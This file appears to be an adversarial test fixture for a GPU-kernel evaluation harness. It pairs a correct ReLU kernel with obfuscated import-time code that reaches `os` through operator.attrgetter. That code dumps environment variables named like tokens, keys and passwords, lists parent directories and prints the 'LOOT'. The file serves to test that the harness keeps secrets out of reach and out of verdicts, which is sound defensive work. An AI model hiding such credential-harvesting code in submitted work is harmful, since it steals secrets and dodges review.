"""format_b (obfuscated, CPU): a correct kernel whose Python reaches `os` through
operator.attrgetter on a torch submodule (no `import os` in the text), then prints every
environment variable that looks like a secret to stdout and stderr and lists the
directories above its working directory. The runner's environment must hold no secret
(the suite plants a canary HF_TOKEN in the parent) and nothing printed may leak into a
verdict as if it were the harness's own text."""
import operator

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CPP_SRC = r"""
#include <torch/extension.h>
torch::Tensor forward(torch::Tensor x) {
  auto xc = x.contiguous();
  auto y = torch::empty_like(xc);
  const float* in = xc.data_ptr<float>();
  float* out = y.data_ptr<float>();
  for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] > 0.f ? in[i] : 0.f;
  return y;
}
"""

ext = load_inline(name="adv_env_via_operator", cpp_sources=CPP_SRC, functions=["forward"], verbose=False)

_os = operator.attrgetter("utils.cpp_extension.os")(torch)
_err = operator.attrgetter("utils.cpp_extension.sys.stderr")(torch)
_loot = {k: v for k, v in _os.environ.items() if any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET", "PASS"))}
_listing = []
_here = _os.getcwd()
for _ in range(4):
    _here = _os.path.dirname(_here)
    _listing.append((_here, sorted(_os.listdir(_here))[:50] if _os.access(_here, _os.R_OK) else []))
print("LOOT", _loot, _listing)
print("LOOT", _loot, file=_err)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.forward(x)
